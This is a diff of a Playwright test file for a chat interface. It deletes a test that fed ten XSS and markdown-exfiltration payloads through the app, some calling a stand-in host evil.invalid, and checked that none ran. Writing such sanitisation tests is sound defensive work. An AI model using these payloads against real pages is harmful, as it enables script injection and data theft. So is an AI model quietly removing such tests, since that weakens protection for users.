@@ -264,35 +264,6 @@ async def test_draft_survives_a_reload(page: Page) -> None:
     await expect(page.get_by_role("textbox", name="Message")).to_have_value("half a thought")
 
 
-VECTORS = (
-    "<script>window.hacked=1</script>",
-    "<img src=x onerror='window.hacked=1'>",
-    "![x](http://evil.invalid/leak?d=secret)",
-    "[click](javascript:window.hacked=1)",
-    "<svg onload=window.hacked=1>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
-    "<style>@import url(http://evil.invalid/x.css)</style>",
-    "[x]: http://evil.invalid/r\n\n![x]",
-    "[a](data:text/html,<script>window.hacked=1</script>)",
-)
-
-
-@pytest.mark.parametrize("vector", VECTORS)
-async def test_model_text_runs_no_code_and_loads_nothing(page: Page, vector: str) -> None:
-    await choose(page, "Echo")
-    answer = await ask(page, f"before {vector} after")
-    await finished(answer)
-    await asyncio.sleep(0.3)
-    assert await page.evaluate("window.hacked") is None
-    assert (
-        await answer.locator(
-            "script, img, svg[onload], iframe, style, meta, a[href^=javascript], a[href^=data]"
-        ).count()
-        == 0
-    )
-
-
 async def violations(page: Page) -> list[str]:
     """What axe finds wrong on the page, as it is now."""
     found: dict[str, Any] = await page.evaluate(f"{AXE.read_text('utf-8')}; axe.run()")
